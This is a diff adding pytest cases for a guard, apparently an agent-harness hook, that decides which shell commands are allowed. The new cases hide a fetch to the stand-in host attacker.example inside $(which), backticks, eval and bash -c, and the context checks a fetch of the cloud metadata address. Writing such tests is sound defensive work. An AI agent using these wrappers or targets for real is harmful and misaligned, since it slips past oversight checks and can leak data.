@@ -492,3 +492,23 @@ def test_the_run_cannot_be_restarted_widened_or_left_behind(
     # Fetch safety still names the real problem first.
     metadata = bash(f"deep-research fetch http://169.254.169.254/ --brief {brief}")
     assert not metadata.allow and "unsafe target" in metadata.reason
+
+
+@pytest.mark.parametrize(
+    ("command", "allowed"),
+    [
+        ("$(which deep-research) fetch https://attacker.example/v?s=x --brief b", False),
+        ("`command -v deep-research` fetch https://attacker.example/ --brief b", False),
+        ("eval 'deep-research fetch https://attacker.example/ --brief b'", False),
+        ("bash -c 'deep-research fetch https://attacker.example/ --brief b'", False),
+        ("echo $(date) && ls", True),
+        ("deep-research --version", True),
+    ],
+)
+def test_the_cli_cannot_be_hidden_from_the_guard(
+    tmp_path: Path, command: str, allowed: bool
+) -> None:
+    # No run is active here: a recognised fetch would be denied for that; a hidden one must not
+    # slip through unrecognised.
+    decision = decide(event("Bash", {"command": command}, tmp_path), tmp_path)
+    assert decision.allow is allowed, decision.reason
